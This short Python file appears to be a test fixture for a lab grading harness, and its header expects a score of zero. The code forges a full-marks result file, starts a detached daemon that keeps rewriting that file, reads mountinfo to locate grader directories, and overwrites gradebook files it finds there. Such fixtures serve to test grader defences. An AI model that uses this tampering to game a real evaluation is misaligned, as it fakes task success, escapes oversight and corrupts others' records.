# forge-result: writes a result file claiming full marks, leaves a daemon to rewrite the real one,
# and tries to write a gradebook wherever the grader might keep one.
# Base: blank
# Expect: zero
import json
import os
import subprocess
import sys

answers = {"example": {"value": ["SIGINT", "SIGTERM"]}, "from_int": {"value": ["SIGINT", "SIGTERM"]},
           "hidden": {"value": [["SIGINT"]] * 10}, "source": {"value": "def decode_mask(m): pass"}}
fake = {"nonce": "0" * 32, "cell_errors": [], "kernel_died": None, "timed_out_cells": [],
        "answers": json.dumps(answers), "answers_error": None, "notebook_error": None}
with open("/out/result.json", "w") as f:
    f.write("0" * 64 + "\n" + json.dumps(fake))
rewriter = ("import os, time\n"
            "while True:\n"
            "    try:\n"
            "        mac, _, body = open('/out/result.json', 'rb').read().partition(b'\\n')\n"
            f"        open('/out/result.json', 'wb').write(mac + b'\\n' + {json.dumps(fake).encode()!r})\n"
            "    except OSError:\n"
            "        pass\n"
            "    time.sleep(0.001)\n")
subprocess.Popen([sys.executable, "-c", rewriter], start_new_session=True)
with open("/proc/self/mountinfo") as f:
    roots = [line.split()[3] for line in f if len(line.split()) > 4 and line.split()[4] in ("/job", "/out")]
for root in roots + ["/work/main/grades", "/work/main", "/job", "/out", ".."]:
    for name in ("gradebook.csv", "results.json", "journal.jsonl"):
        try:
            with open(os.path.join(root, name), "w") as f:
                f.write("student,lab,check,points,max_points,status,message\n")
        except OSError:
            pass
